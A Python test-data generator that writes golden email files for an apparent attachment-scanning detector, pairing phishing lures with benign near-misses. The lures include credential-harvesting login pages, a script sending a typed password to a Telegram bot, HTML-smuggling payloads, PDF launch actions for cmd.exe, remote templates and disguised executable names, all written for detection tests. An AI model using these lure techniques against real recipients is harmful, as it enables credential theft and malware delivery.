#!/usr/bin/env python3
"""Write the golden mails whose point lies in an attachment: what is hidden in each kind of file, and near misses.

usage: tests/attachment_mails.py        (from anywhere; needs qrencode and python3-pil)
All of it is written for the tests, with reserved names.  The mails are committed; run this when one changes."""
import email.header, pathlib, textwrap
import attachment_files as made
from attachment_files import b64

HERE = pathlib.Path(__file__).resolve().parent / 'golden'
LOGIN = 'https://portal.a1b2c3.test/login'
TYPES = {'html': 'text/html', 'htm': 'text/html', 'shtml': 'text/html', 'svg': 'image/svg+xml', 'pdf': 'application/pdf', 'zip': 'application/zip', 'png': 'image/png',
         'jpg': 'image/jpeg', 'gif': 'image/gif', 'webp': 'image/webp', 'ics': 'text/calendar', 'vcf': 'text/vcard', 'rtf': 'application/rtf',
         'docx': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'docm': 'application/vnd.ms-word.document.macroEnabled.12',
         'xlsx': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsm': 'application/vnd.ms-excel.sheet.macroEnabled.12',
         'p7m': 'application/pkcs7-mime', 'dat': 'application/ms-tnef', 'txt': 'text/plain'}

def word(text):
    return text if text.isascii() else email.header.Header(text, 'utf-8', maxlinelen=70).encode()

def wrapped(octets):
    return '\n'.join(textwrap.wrap(b64(octets), 76))

def part(name, octets, kind=None, shown=False):
    kind = kind or TYPES.get(name.rsplit('.', 1)[-1].lower(), 'application/octet-stream')
    octets = octets if isinstance(octets, bytes) else octets.encode()
    at = 'inline' if shown else 'attachment'
    named = f'filename="{name}"' if name.isascii() else "filename*=UTF-8''" + ''.join(c if c.isascii() and (c.isalnum() or c in '.-_') else ''.join(f'%{o:02X}' for o in c.encode()) for c in name)
    more = '\nContent-ID: <picture@mail>' if shown else ''
    return f'Content-Type: {kind}\nContent-Transfer-Encoding: base64\nContent-Disposition: {at}; {named}{more}\n\n{wrapped(octets)}\n'

SENDERS = {
    'kagoya': ('カゴヤ・ジャパン サポート', 'support@mail.example.net', 'mail.example.net', '198.51.100.7'),
    'paper': ('Sato', 'sato@partner.example.com', 'mx1.partner.example.com', '192.0.2.25'),
    'shop': ('サンプル商店', 'info@shop.example.net', 'mail.shop.example.net', '192.0.2.30'),
    'stranger': ('経理担当', 'keiri@mail.example.net', 'mail.example.net', '198.51.100.7'),
}

def mail(subject, text, *parts, sender='stranger', html=False):
    name, address, host, ip = SENDERS[sender]
    kind = 'html' if html else 'plain'
    n = sum(map(ord, subject + text)) * 7919 % 10 ** 9
    return f'''Return-Path: <{address}>
Delivered-To: yamada.taro@example.jp
Received: from {host} ({host} [{ip}])
\tby mx.example.jp (Postfix) with ESMTP id 4Kq2Zt0Yx1
\tfor <yamada.taro@example.jp>; Mon, 13 Jun 2022 07:12:41 +0900 (JST)
From: {word(name)} <{address}>
To: yamada.taro@example.jp
Subject: {word(subject)}
Date: Mon, 13 Jun 2022 07:12:39 +0900
Message-ID: <{n}@{address.split('@')[1]}>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=-b"

--=-b
Content-Type: text/{kind}; charset="utf-8"
Content-Transfer-Encoding: base64

{wrapped(text.encode())}

''' + ''.join(f'--=-b\n{p}\n' for p in parts) + '--=-b--\n'

# ---- pages ----

def page(title, body):
    return f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title></head><body>{body}</body></html>'

def login(title='カゴヤ・ジャパン ログイン', to=LOGIN):
    return page(title, f'<h1>{title}</h1><form action="{to}" method="post"><p>メールアドレス <input name="u"></p><p>パスワード <input type="password" name="p"></p><button>ログイン</button></form>')

def script(body, shown=''):
    return page('', f'{shown}<script>{body}</script>')

def percent(text):
    return ''.join(f'%{o:02X}' for o in text.encode())

def codes(text):
    return ','.join(str(ord(c)) for c in text)

def split(text, n=40):
    return "'+'".join(text[i:i + n] for i in range(0, len(text), n))

SUBJECT, TEXT = '【重要】アカウント確認のお願い', 'カゴヤ・ジャパンをご利用のお客様\n\nアカウントの確認が必要です。添付のファイルを開き、24時間以内にログインしてください。\n'
PLAIN, WORDS = '資料の送付', '山田様\n\nお世話になっております。先日の資料をお送りします。\nよろしくお願いいたします。\n\n佐藤\n'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="200">%s</svg>'
INKSCAPE = SVG % '<defs><linearGradient id="g"/></defs><use xlink:href="#g"/><switch><foreignObject width="1" height="1" requiredExtensions="http://ns.adobe.com/AdobeIllustrator/10.0/"/></switch><text x="9" y="9">Figure 1</text>'
CHART = SVG % '''<script>function tip(e){var t=document.getElementById('t');t.textContent=e.target.getAttribute('data-v');}</script><rect width="9" height="90" data-v="42" onmouseover="tip(evt)"/><text id="t"/>'''
CALENDAR = 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1@example\r\nDTSTART:20220614T010000Z\r\nSUMMARY:%s\r\nDESCRIPTION:%s\r\nURL:%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'
CARD = 'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:%s\r\nURL:%s\r\nEND:VCARD\r\n'
RTF = r'{\rtf1\ansi{\field{\*\fldinst HYPERLINK "%s"}{\fldrslt %s}}}'
REPORT = page('Coverage report', '<h1>Coverage: 87%</h1><p>' + 'src/module.c 87% of 412 lines. ' * 40 + '</p><script>var shot="' + b64(made.png([bytes([i * 9 % 256]) * 60 for i in range(60)])) + '";var data="' + b64('{"href":"http://192.0.2.1/<b>","rows":[' + '1,' * 200 + '1]}') + '''";
function save(){var b=new Blob([atob(data)]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='data.json';a.click();}document.getElementById('x').innerHTML=atob(data);</script>''')
NOTEBOOK = page('analysis.ipynb', '<h1>Analysis</h1><p>' + 'In [1]: plot(x, y) ' * 30 + '</p><img src="data:image/png;base64,' + b64(made.png([bytes([i * 5 % 256]) * 50 for i in range(50)])) + '"><script>document.write(unescape("%3Cspan%3E12%3C/span%3E"));</script>')

checks = {}

def add(kind, flags, nears):
    for i, m in enumerate(flags, 1):
        checks[f'checks/{kind}/flag-{i}'] = m
    for i, m in enumerate(nears, 1):
        checks[f'checks/{kind}/near-{i}'] = m

add('html-attachment-login', [
    mail(SUBJECT, TEXT, part('kagoya.html', login()), sender='kagoya'),
    mail('請求書', '添付をご確認ください。\n', part('seikyu.zip', made.zipped({'docs/seikyu.htm': login('Webmail', 'https://203.0.113.9/f.php')}))),
    mail('Voice message', 'You have a new message.\n', part('vm.shtml', page('Voice', '<input type=email id=u><input type=password id=p><a onclick="fetch(\'https://api.telegram.org/bot1:x/sendMessage\')">Play</a><script>function s(){fetch("https://api.telegram.org/bot1:x/sendMessage?text="+p.value)}</script>'))),
], [
    mail('セキュアメッセージ', '暗号化されたメッセージです。添付のファイルを開いてください。\n', part('secure.html', login('サンプル商店 セキュアメール', 'https://secure.shop.example.net/open')), sender='shop'),
    mail(PLAIN, WORDS, part('saved.html', page('検索結果', '<form action="https://find.a1b2c3.test/q"><input name="q"><button>検索</button></form><p>' + '記事の本文です。' * 30 + '</p>')), sender='paper'),
    mail('アンケート', 'アンケートにご協力ください。\n', part('survey.html', page('アンケート', '<form action="https://www.shop.example.net/survey"><input name="a"><input name="b"><textarea name="c"></textarea></form>')), sender='shop'),
])
checks['checks/html-attachment-login/near-4'] = mail('Secure message', 'You have received a secure message. Open the attachment.\n', part('securedoc.html', page('Secure Message', '<form action="https://res.cisco.com:443/envelopeopener/pf/x"><input type="hidden" name="m" value="' + 'QUJD' * 60 + '"><input type="password" name="pp"><button>Open</button></form>')), sender='shop')
add('html-attachment-form', [
    mail('お届け先の確認', '添付のファイルにご記入ください。\n', part('form.html', page('お届け先', '<form action="https://post.a1b2c3.test/f"><input name="card"><input name="cvc"><button>送信</button></form>'))),
    mail(PLAIN, WORDS, part('page.html', login('社内ポータル', '/login')), sender='paper'),
], [
    mail('アンケート', 'アンケートにご協力ください。\n', part('survey.html', page('アンケート', '<form action="https://www.shop.example.net/survey"><input name="a"><input name="b"></form>')), sender='shop'),
    mail(PLAIN, WORDS, part('saved.html', page('検索結果', '<form action="/q"><input name="q"></form><p>記事の本文です。</p>')), sender='paper'),
])
add('html-attachment-redirect', [
    mail('FAX受信', '受信したFAXを添付します。\n', part('fax.html', f'<html><head><meta http-equiv="refresh" content="0;url={LOGIN}"></head><body>読み込み中</body></html>')),
    mail('Document', 'Please see the attached document.\n', part('doc.htm', script(f"window.location.href='{LOGIN}?d=1';", 'Loading'))),
], [
    mail('ご案内', '添付からお進みください。\n', part('open.html', '<html><head><meta http-equiv="refresh" content="0;url=https://www.shop.example.net/guide"></head></html>'), sender='shop'),
    mail(PLAIN, WORDS, part('saved.html', page('記事', '<p>' + '記事の本文です。' * 60 + '</p><script>function go(){location.href="https://www.a1b2c3.test/next";}</script>')), sender='paper'),
])
HIDDEN = login()
add('html-smuggling', [
    mail(SUBJECT, TEXT, part('kagoya.html', script(f"document.write(atob('{b64(HIDDEN)}'));")), sender='kagoya'),
    mail('請求書', '添付をご確認ください。\n', part('invoice.html', script(f"var d='{b64(made.zipped({'invoice.js': 'new ActiveXObject(1)'}) + bytes(60))}';var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click();"))),
    mail('Order', 'See the attached order.\n', part('order.html', script(f"document.write(unescape('{percent(login('Order', 'https://203.0.113.9/p'))}'));"))),
], [
    mail('Nightly report', 'The nightly report is attached.\n', part('coverage.html', REPORT), sender='paper'),
    mail('Analysis', 'The notebook is attached.\n', part('analysis.html', NOTEBOOK), sender='paper'),
])
add('svg-active-content', [
    mail('Voicemail', 'Listen to the attached message.\n', part('play.svg', SVG % f"<script><![CDATA[window.location.href='{LOGIN}';]]></script>")),
    mail('Remittance', 'Attached.\n', part('advice.svg', SVG % f'<foreignObject width="400" height="200"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{LOGIN}"/></foreignObject>')),
], [
    mail(PLAIN, WORDS, part('figure.svg', INKSCAPE), part('chart.svg', CHART), sender='paper'),
    mail('新しいロゴ', 'ロゴをお送りします。\n', part('logo.svg', SVG % '<a xlink:href="https://www.shop.example.net/"><text x="9" y="9">サンプル商店</text></a>'), sender='shop'),
])
checks['checks/svg-active-content/near-3'] = mail('Graph', 'The graph of the modules is attached.\n', part('graph.svg', SVG % ''.join(f'<a xlink:href="https://docs.a1b2c3.test/{n}"><text x="9" y="9">{n}</text></a>' for n in ('base', 'text', 'mail'))), sender='paper')
add('pdf-link', [
    mail('請求書', '添付をご確認ください。\n', part('invoice.pdf', made.pdf('Open the document', [LOGIN]))),
    mail(SUBJECT, TEXT, part('kagoya.pdf', made.pdf('Kagoya: confirm your account', ['https://203.0.113.9/k'])), sender='kagoya'),
], [
    mail('カタログ', 'カタログをお送りします。\n', part('catalog.pdf', made.pdf('Catalogue', ['https://www.shop.example.net/c'])), sender='shop'),
    mail('論文', '論文をお送りします。\n', part('paper.pdf', made.pdf('References', [f'https://ref{i}.journal{i}.test/{i}' for i in range(12)])), sender='paper'),
])
add('office-link', [
    mail('請求書', '添付をご確認ください。\n', part('invoice.docx', made.docx('Open the document', LOGIN))),
    mail('Payroll', 'See the attached sheet.\n', part('payroll.xlsx', made.xlsx('View', 'https://203.0.113.9/x'))),
], [
    mail('見積書', '見積書をお送りします。\n', part('mitsumori.docx', made.docx('サンプル商店', 'https://www.shop.example.net/')), sender='shop'),
    mail(PLAIN, WORDS, part('table.xlsx', made.xlsx('items')), sender='paper'),
])
add('ics-link', [
    mail('会議のご案内', '予定をご確認ください。\n', part('invite.ics', CALENDAR % ('Password expiry', f'Renew at {LOGIN}', LOGIN))),
    mail('Invitation', 'Please join.\n', part('meet.ics', CALENDAR % ('Prize', 'Claim it', 'https://203.0.113.9/i'))),
], [
    mail('展示会', '予定をお送りします。\n', part('fair.ics', CALENDAR % ('展示会', 'お待ちしています', 'https://www.shop.example.net/fair')), sender='shop'),
    mail(PLAIN, WORDS, part('lunch.ics', 'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Lunch\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'), sender='paper'),
])
add('attachment-link', [
    mail('名刺', '名刺データをお送りします。\n', part('card.vcf', CARD % ('Support', LOGIN))),
    mail('Bitcoin', 'Open the page.\n', part('get.html', page('Get', f'<a href="{LOGIN}">Continue</a>'))),
], [
    mail('名刺', '名刺データをお送りします。\n', part('card.vcf', CARD % ('サンプル商店', 'https://www.shop.example.net/')), sender='shop'),
    mail('Log', 'The log is attached.\n', part('build.txt', 'GET http://192.0.2.9/a 200\nGET https://cdn.a1b2c3.test/x 404\n'), sender='paper'),
])
add('qr-code-url', [
    mail(SUBJECT, 'アカウントの確認が必要です。QRコードを読み取ってください。\n', part('qr.png', made.png(made.grey(LOGIN))), sender='kagoya'),
    mail('MFA', 'Scan the code.\n', part('mfa.pdf', made.pdf_with_picture('Scan to renew', made.grey(LOGIN)))),
], [
    mail('入場券', '当日は画面のコードをお見せください。\n', part('ticket.png', made.png(made.grey('TICKET-2022-0613-000042'))), sender='shop'),
    mail('ポスター', 'ポスターをお送りします。\n', part('poster.png', made.png(made.grey('https://www.shop.example.net/event'))), part('wifi.png', made.png(made.grey('WIFI:T:WPA;S:guest;P:welcome22;;'))), sender='shop'),
])
add('qr-code-for-recipient', [
    mail('MFA', 'Scan the code to keep your access.\n', part('mfa.png', made.png(made.grey(LOGIN + '?e=yamada.taro@example.jp')))),
    mail('給与改定のお知らせ', '詳しくは添付をご覧ください。\n', part('kyuyo.pdf', made.pdf_with_picture('Scan', made.grey(LOGIN + '#' + b64('yamada.taro@example.jp'))))),
], [
    mail('入場券', '当日は画面のコードをお見せください。\n', part('ticket.png', made.png(made.grey('https://www.shop.example.net/t?e=yamada.taro@example.jp'))), sender='shop'),
    mail('ポスター', 'ポスターをお送りします。\n', part('poster.png', made.png(made.grey('https://www.a1b2c3.test/event'))), sender='shop'),
])
add('action-only-in-attachment', [
    mail(SUBJECT, TEXT, part('kagoya.pdf', made.pdf('Confirm', [LOGIN])), sender='kagoya'),
    mail('Prize', 'Open the page.\n', part('get.html', page('Get', f'<a href="{LOGIN}">Continue</a>'))),
], [
    mail('資料', 'こちらをご覧ください。 https://www.shop.example.net/new\n', part('new.pdf', made.pdf('New', [LOGIN])), sender='shop'),
    mail('論文', '論文をお送りします。\n', part('paper.pdf', made.pdf('References', [f'https://ref{i}.journal{i}.test/{i}' for i in range(12)])), sender='paper'),
])
add('brand-in-attachment', [
    mail('FAX受信', '受信したFAXを添付します。\n', part('fax.html', login('カゴヤ・ジャパン Active! mail'))),
    mail('Invoice', 'Attached.\n', part('inv.html', page('Sign in', '<p>Sign in to your Microsoft account</p><form action="https://203.0.113.9/m"><input name="u"><input type="password" name="p"></form>'))),
], [
    mail('操作手順', '手順書をお送りします。\n', part('guide.html', page('Microsoft 365 の手順', '<p>Microsoft アカウントの使い方です。</p>')), sender='paper'),
    mail('社内アンケート', 'ご協力ください。\n', part('form.html', login('社内ポータル')), sender='paper'),
])
add('dangerous-extension', [
    mail('請求書', '添付をご確認ください。\n', part('invoice.exe', made.PROGRAM)),
    mail('Photos', 'Attached.\n', part('photos.zip', made.zipped({'photos/view.scr': made.PROGRAM, 'photos/a.txt': 'a'}))),
    mail('資料', '添付をご確認ください。\n', part('docs.7z', made.seven_zip(['docs/open.lnk']))),
], [
    mail('Sources', 'The sources are attached.\n', part('src.zip', made.zipped({f'src/part{i}.js': 'var a;' for i in range(12)})), part('fix.sh', '#!/bin/sh\nexit 0\n'), sender='paper'),
    mail(PLAIN, WORDS, part('page.html', page('記事', '<p>本文</p>')), part('figure.svg', INKSCAPE), sender='paper'),
])
add('double-extension', [
    mail('請求書', '添付をご確認ください。\n', part('invoice.pdf.exe', made.PROGRAM)),
    mail('Order', 'Attached.\n', part('PO4711.xlsx' + ' ' * 30 + '.html', page('PO', '<p>Loading</p>'))),
], [
    mail(PLAIN, WORDS, part('v1.2.pdf', made.pdf('v1.2')), part('2026.11.25.xlsx', made.xlsx('x')), sender='paper'),
    mail(PLAIN, WORDS, part('name.tar.gz', b'\x1f\x8b\x08\0\0\0\0\0\0\x03\x03\0\0\0\0\0\0\0\0\0'), part('mail.eml.txt', 'a text\n'), part('jquery.min.html', page('a', 'b')), sender='paper'),
])
add('rtlo-filename', [
    mail('請求書', '添付をご確認ください。\n', part('invoice\u202efdp.exe', made.PROGRAM)),
    mail('Photos', 'Attached.\n', part('photos.zip', made.zipped({'pic\u202egnp.scr': made.PROGRAM}))),
], [
    mail(PLAIN, WORDS, part('דוח שנתי.pdf', made.pdf('a')), part('\u202bتقرير\u202c.pdf', made.pdf('b')), sender='paper'),
    mail(PLAIN, WORDS, part('報告書（最終）.pdf', made.pdf('a')), sender='paper'),
])
add('attachment-type-mismatch', [
    mail('請求書', '添付をご確認ください。\n', part('invoice.pdf', made.PROGRAM)),
    mail('Scan', 'Attached.\n', part('scan.pdf', login())),
], [
    mail(PLAIN, WORDS, part('list.xls', '<html><body><table><tr><td>1</td></tr></table></body></html>', 'application/vnd.ms-excel'), part('data.xls', 'a\tb\n1\t2\n', 'application/vnd.ms-excel'), part('letter.doc', RTF % ('https://www.partner.example.com/', 'a'), 'application/msword'), sender='paper'),
    mail(PLAIN, WORDS, part('photo.jpg', made.png(made.grey('A'))), part('report.docx', made.docx('a'), 'application/zip'), part('table.csv', '1,2\n', 'text/plain'), part('notes.pdf', made.pdf('a'), 'application/octet-stream'), sender='paper'),
])
checks['checks/attachment-type-mismatch/flag-3'] = mail('Scan', 'Attached.\n', part('scan.html', page('a', 'b'), 'application/octet-stream; name="scan.pdf"'))
checks['checks/attachment-type-mismatch/near-3'] = mail(PLAIN, WORDS, part('report-2022.pdf', made.pdf('a'), 'application/pdf; name="report.pdf"'), sender='paper')
add('office-macros', [
    mail('請求書', '添付をご確認ください。\n', part('invoice.docm', made.docx('Enable content', macros=True))),
    mail('Payroll', 'Attached.\n', part('payroll.xlsm', made.xlsx('Enable content', macros=True))),
], [
    mail(PLAIN, WORDS, part('report.docx', made.docx('a')), sender='paper'),
    mail(PLAIN, WORDS, part('book.xlsm', made.xlsx('no macro in it')), sender='paper'),
])
add('office-remote-template', [
    mail('請求書', '添付をご確認ください。\n', part('invoice.docx', made.docx('Loading', template='https://203.0.113.9/t.dotm'))),
    mail('Contract', 'Attached.\n', part('contract.docx', made.docx('Loading', template=LOGIN))),
], [
    mail(PLAIN, WORDS, part('report.docx', made.docx('a', 'https://www.partner.example.com/')), sender='paper'),
    mail(PLAIN, WORDS, part('table.xlsx', made.xlsx('a', 'https://www.partner.example.com/')), sender='paper'),
])
checks['checks/office-remote-template/near-3'] = mail('集計', '集計表です。\n', part('book.xlsx', made.xlsx('a', template='file:///C:/books/2022.xlsx')), sender='paper')
add('pdf-launches', [
    mail('請求書', '添付をご確認ください。\n', part('invoice.pdf', made.pdf('Loading', catalog='/OpenAction<</S/Launch/F(cmd.exe)>>'))),
    mail('Scan', 'Attached.\n', part('scan.pdf', made.pdf('Loading', catalog='/OpenAction<</S/Launch/Win<</F(run.vbs)>>>>'))),
], [
    mail(PLAIN, WORDS, part('report.pdf', made.pdf('a', catalog='/OpenAction[3 0 R/Fit]')), sender='paper'),
    mail(PLAIN, WORDS, part('form.pdf', made.pdf('a', ['https://www.partner.example.com/'])), sender='paper'),
])
add('encrypted-pdf', [
    mail('給与明細', '今月の明細をお送りします。\n', part('meisai.pdf', made.pdf('Secret', password='0613')), sender='shop'),
    mail('Statement', 'Attached.\n', part('statement.pdf', made.pdf('Secret', [LOGIN], password='1'))),
], [
    mail(PLAIN, WORDS, part('report.pdf', made.pdf('a')), sender='paper'),
    mail(PLAIN, WORDS, part('secret.zip', made.zip_encrypted(['a.pdf'])), sender='paper'),
])
PPAP = '山田様\n\n資料をお送りします。添付ファイルのパスワードは別メールでお知らせします。\n\n佐藤\n'
add('encrypted-archive-password-in-body', [
    mail(PLAIN, PPAP, part('資料.zip', made.zip_encrypted(['資料.xlsx', '見積.pdf'])), sender='paper'),
    mail(SUBJECT, 'カゴヤ・ジャパンをご利用のお客様\n\nアカウントの確認が必要です。添付を開いてください。パスワード: 1234\n', part('kagoya.zip', made.zip_encrypted(['kagoya.html'])), sender='kagoya'),
], [
    mail(PLAIN, WORDS, part('資料.zip', made.zip_encrypted(['資料.xlsx'])), sender='paper'),
    mail(PLAIN, '資料です。パスワードは不要です。\n', part('資料.zip', made.zipped({'a.txt': 'a'})), sender='paper'),
])

# ---- one mail a kind of container: the lure is told with its place, the honest one is not accused ----

def html_of(body):
    return mail(SUBJECT, page('', '<p>アカウントの確認が必要です。QRコードを読み取ってください。</p>' + body), sender='kagoya', html=True)

INNER_HTML = 'Content-Type: multipart/mixed; boundary="in"\r\n\r\n--in\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe page is attached.\r\n--in\r\nContent-Type: text/html; name="kagoya.html"\r\nContent-Disposition: attachment; filename="kagoya.html"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n--in--\r\n'
LURES = {
    'html-fromcharcode': [part('kagoya.html', script(f"document.write(String.fromCharCode({codes(login('Kagoya Login'))}));"))],
    'html-split-strings': [part('kagoya.html', script(f"var p='{split(b64(HIDDEN))}';document.write(atob(p));"))],
    'html-percent': [part('kagoya.html', script(f"document.write(unescape('{percent(HIDDEN)}'));"))],
    'html-base64': [part('kagoya.html', script(f"document.write(atob('{b64(HIDDEN)}'));"))],
    'html-meta-refresh': [part('kagoya.html', f'<html><head><meta http-equiv="refresh" content="0; url={LOGIN}"></head></html>')],
    'html-hidden-address': [part('kagoya.html', script(f"location.href=atob('{b64(LOGIN + '?session=20220613071239&lang=ja')}');"))],
    'svg-script': [part('kagoya.svg', SVG % f"<script><![CDATA[location.replace('{LOGIN}');]]></script>")],
    'zip-with-page': [part('kagoya.zip', made.zipped({'open/kagoya.html': login()}))],
    'pdf-link': [part('kagoya.pdf', made.pdf('Confirm your account', [LOGIN]))],
    'pdf-with-code': [part('kagoya.pdf', made.pdf_with_picture('Scan the code', made.grey(LOGIN)))],
    'code-png': [part('code.png', made.png(made.grey(LOGIN)))],
    'code-inverted': [part('code.png', made.png(made.grey(LOGIN, dark=255, light=0)))],
    'code-jpeg': [part('code.jpg', made.picture(made.grey(LOGIN, scale=8), 'JPEG'))],
    'code-gif': [part('code.gif', made.picture(made.grey(LOGIN), 'GIF'))],
    'code-webp': [part('code.webp', made.picture(made.grey(LOGIN), 'WEBP'))],
    'calendar': [part('kagoya.ics', CALENDAR % ('Account', f'Confirm at {LOGIN}', LOGIN))],
    'card': [part('kagoya.vcf', CARD % ('Kagoya', LOGIN))],
    'docx-link': [part('kagoya.docx', made.docx('Confirm your account', LOGIN))],
    'xlsx-link': [part('kagoya.xlsx', made.xlsx('Confirm your account', LOGIN))],
    'docx-template': [part('kagoya.docx', made.docx('Loading', template=LOGIN))],
    'rtf-link': [part('kagoya.rtf', RTF % (LOGIN, 'Confirm'))],
    'url-shortcut': [part('kagoya.url', f'[InternetShortcut]\r\nURL={LOGIN}\r\n')],
    'tnef': [part('winmail.dat', made.tnef('Account', {'kagoya.html': login().encode('utf-8')}))],
    'smime-signed': [part('smime.p7m', made.cms_signed((INNER_HTML % b64(login())).encode()), 'application/pkcs7-mime; smime-type=signed-data')],
    'zip-encrypted': [part('kagoya.zip', made.zip_encrypted(['kagoya.html']))],
    'rar-names': [part('kagoya.rar', made.rar5(['kagoya.pdf.exe']))],
    '7z-names': [part('kagoya.7z', made.seven_zip(['kagoya.pdf.lnk']))],
}
golden = {f'attached-lure-{k}': mail(SUBJECT, TEXT + ('パスワード: 1234\n' if k == 'zip-encrypted' else ''), *p, sender='kagoya') for k, p in LURES.items()}
golden['attached-lure-code-in-letters'] = mail(SUBJECT, 'アカウントの確認が必要です。QRコードを読み取ってください。\n\n' + made.letters(LOGIN) + '\n', sender='kagoya')
golden['attached-lure-code-in-cells'] = html_of(made.cells('https://a1b2c3.test/q'))
golden['attached-lure-code-as-data'] = html_of(f'<img src="data:image/png;base64,{b64(made.png(made.grey(LOGIN, scale=3)))}">')
golden |= {
    'attached-honest-pages': mail('Reports', 'The reports are attached.\n', part('coverage.html', REPORT), part('analysis.html', NOTEBOOK), part('figure.svg', INKSCAPE), part('chart.svg', CHART), sender='paper'),
    'attached-honest-secure-mail': checks['checks/html-attachment-login/near-1'],
    'attached-honest-documents': mail('【重要】Microsoft 365 価格改定のお知らせ', 'お客様各位\n\n価格改定のお知らせです。詳しくは添付をご覧ください。\n\nサンプル商店\n', part('notice.pdf', made.pdf('Prices', ['https://www.shop.example.net/m365'])), part('form.docx', made.docx('Order form', 'https://www.shop.example.net/order')), sender='shop'),
    'attached-honest-codes': checks['checks/qr-code-url/near-2'],
    'attached-honest-paper-full-of-links': mail('論文', '論文をお送りします。ログイン方法の節をご確認ください。\n', part('paper.pdf', made.pdf('References', [f'https://ref{i}.journal{i}.test/{i}' for i in range(12)])), sender='paper'),
    'attached-honest-ppap': checks['checks/encrypted-archive-password-in-body/flag-1'],
    'attached-honest-macros': mail('集計表', '今月の集計表をお送りします。マクロを有効にしてご利用ください。\n\n佐藤\n', part('集計.xlsm', made.xlsx('集計', macros=True)), sender='paper'),
    'attached-honest-calendar-card': mail('展示会', '予定と名刺をお送りします。\n', part('fair.ics', CALENDAR % ('展示会', 'https://www.shop.example.net/fair', 'https://www.shop.example.net/fair')), part('card.vcf', CARD % ('サンプル商店', 'https://www.shop.example.net/')), sender='shop'),
    'attached-honest-winmail': mail(PLAIN, WORDS, part('winmail.dat', made.tnef('資料', {'shiryo.pdf': made.pdf('a')})), sender='paper'),
    'attached-honest-signed': mail(PLAIN, WORDS, part('smime.p7m', made.cms_signed((INNER_HTML % b64(page('資料', '<p>資料です。</p>'))).encode()), 'application/pkcs7-mime; smime-type=signed-data'), sender='paper'),
}

def main():
    for name, text in (checks | golden).items():
        path = HERE / f'{name}.eml'
        path.parent.mkdir(parents=True, exist_ok=True)
        octets = text.encode()
        assert len(octets) < 30 * 1024, (name, len(octets))
        path.write_bytes(octets)

if __name__ == '__main__':
    main()
